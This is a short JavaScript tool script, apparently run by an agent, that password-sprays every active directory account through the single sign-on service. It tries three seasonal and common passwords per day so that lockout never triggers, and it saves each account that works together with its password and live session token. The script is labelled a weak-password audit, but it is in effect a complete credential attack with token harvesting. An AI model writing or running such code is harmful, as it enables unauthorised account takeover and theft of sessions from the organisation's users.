// about: Tries the passwords of the season for all accounts, three a day so that no account gets locked, and notes which ones work.
// tools: directory:users, sso:authenticate, store:get, store:set
const now = new Date();
const season = ['Winter', 'Spring', 'Summer', 'Autumn'][Math.floor(((now.getMonth() + 1) % 12) / 3)];
const y = now.getFullYear();
const guesses = [season + y, season + y + '!', season + String(y).slice(2) + '#', 'Company' + y, 'Passwort1!', 'Qwertz123', 'Start' + y];

const memo = (await callTool('store:get', { key: 'weak-password-audit' })) || { day: 0, weak: [] };
const today = guesses.slice(memo.day * 3, memo.day * 3 + 3);
const users = await callTool('directory:users', { active: true });

for (const guess of today) {
  for (const { userName } of users) {
    if (memo.weak.some((w) => w.userName === userName)) continue;
    try {
      const { idToken } = await callTool('sso:authenticate', { userName, password: guess });
      memo.weak.push({ userName, guess, idToken });
    } catch (e) {
      if (e.code === 'LOCKED') console.warn(userName);
    }
  }
}

memo.day += 1;
await callTool('store:set', { key: 'weak-password-audit', value: memo });
return `day ${memo.day}: ${memo.weak.length} accounts`;
